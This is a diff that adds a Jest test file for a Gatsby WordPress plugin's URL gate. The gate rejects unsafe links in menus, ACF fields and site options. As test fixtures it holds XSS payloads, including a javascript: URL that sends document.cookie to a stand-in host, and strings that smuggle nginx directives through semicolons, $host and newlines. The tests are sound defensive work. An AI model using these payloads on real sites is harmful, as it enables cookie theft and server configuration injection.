@@ -1,0 +1,106 @@
+import { buildNodeInputs } from '../../plugins/gatsby-source-wp-rest/src/nodes/build-nodes'
+import { checkedLink, remoteSupportProblem } from '../../plugins/gatsby-source-wp-rest/src/normalize/url-gate'
+import { CMS, rawContent, restPost } from '../helpers/rest-fixtures'
+
+const ctx = { type: 'menu', id: 'main-menu item 7' }
+const link = (value: string) => checkedLink(value, ctx, 'url', [CMS])
+
+describe('the URL gate (links outside sanitised HTML)', () => {
+  it.each([
+    ['/over-ons', '/over-ons'],
+    ['#', '#'],
+    ['#agenda', '#agenda'],
+    [`  ${CMS}/contact/ `, '/contact'],
+    ['https://www.knmt.nl/', 'https://www.knmt.nl/'],
+    ['http://webinar.example.nl/x?y=1', 'http://webinar.example.nl/x?y=1'],
+    ['mailto:support@example.nl', 'mailto:support@example.nl'],
+    ['tel:+31 88 123 45 67', 'tel:+31 88 123 45 67'],
+  ])('lets %j through as %j', (value, expected) => {
+    expect(link(value)).toBe(expected)
+  })
+
+  it.each([
+    'javascript:alert(document.cookie)',
+    ' JavaScript:alert(1)',
+    'java\tscript:alert(1)',
+    'data:text/html,<script>alert(1)</script>',
+    'vbscript:msgbox',
+    '//evil.example/x',
+    '/\\evil.example/x',
+    'https://evil.example/a b',
+    'https:///nohost',
+    'over-ons',
+    'mailto:',
+  ])('refuses %j, naming the item, the field and the value', (value) => {
+    const message = (() => {
+      try {
+        link(value)
+        return 'accepted'
+      } catch (error) {
+        return (error as Error).message
+      }
+    })()
+    expect(message).toMatch(/^Malformed menu item main-menu item 7: field "url" must /)
+    expect(message.endsWith(`, got ${JSON.stringify(value)}`)).toBe(true)
+  })
+})
+
+describe('a build with a javascript: URL fails, naming the field', () => {
+  const attack = 'javascript:fetch("//evil.example/"+document.cookie)'
+  const build = (content: ReturnType<typeof rawContent>) => () => buildNodeInputs(content, [CMS])
+
+  it('in a menu item', () => {
+    const menu = [{ ID: 1003, title: 'Inloggen', url: attack, target: '', classes: '', children: [] }]
+    expect(build(rawContent({ menus: { 'main-menu': menu } }))).toThrow(
+      `Malformed menu item main-menu item 1003: field "url" must be a site path or an https:, http:, mailto: or tel: address, got ${JSON.stringify(attack)}`,
+    )
+  })
+
+  it('in an ACF link (a partner site)', () => {
+    const partner = restPost({ id: 401, type: 'partners', acf: { website: attack, description: 'x' } })
+    const lists = { ...rawContent().lists, partners: [partner] }
+    expect(build(rawContent({ lists }))).toThrow('Malformed partners item 401: field "acf.website" must be')
+  })
+
+  it('in the front page hero button', () => {
+    const frontPage = { id: 2, title: 'Home', acf: { hero_button: { title: 'Kom', url: attack } } }
+    expect(build(rawContent({ frontPage }))).toThrow(
+      'Malformed front-page item front-page: field "acf.hero_button.url" must be',
+    )
+  })
+
+  it('in a social link of the site options', () => {
+    const options = { acf: { facebook: attack } }
+    expect(build(rawContent({ options }))).toThrow('Malformed options item options: field "facebook" must be')
+  })
+
+  it('in the remote-support option', () => {
+    const options = { acf: { remote_support_url: attack } }
+    expect(build(rawContent({ options }))).toThrow(
+      'Malformed options item options: field "remote_support_url" must be an https: address',
+    )
+  })
+})
+
+describe('the remote-support address (it goes into host rules)', () => {
+  it.each([
+    'https://download.example.nl/TandemMeekijken.exe',
+    'https://cms.example.nl/wp-content/uploads/meekijken/Tandem%20Meekijken.exe?v=2',
+    'http://127.0.0.1:8881/wp-content/uploads/meekijken/TandemMeekijken.exe',
+  ])('accepts %j', (value) => {
+    expect(remoteSupportProblem(value)).toBeNull()
+  })
+
+  it.each([
+    ['http://download.example.nl/x.exe', /https:/],
+    ['https://download.example.nl/x.exe 302', /without spaces/],
+    ['https://download.example.nl/x.exe;return', /semicolons/],
+    ['https://download.example.nl/$host', /\$/],
+    ['https://download.example.nl/"x', /quotes/],
+    ['https://download.example.nl/x\nlocation / {', /without spaces/],
+    ['https://user:secret@download.example.nl/x.exe', /user name or password/],
+    ['ftp://download.example.nl/x.exe', /https:/],
+  ])('refuses %j', (value, problem) => {
+    expect(remoteSupportProblem(value)).toMatch(problem)
+  })
+})
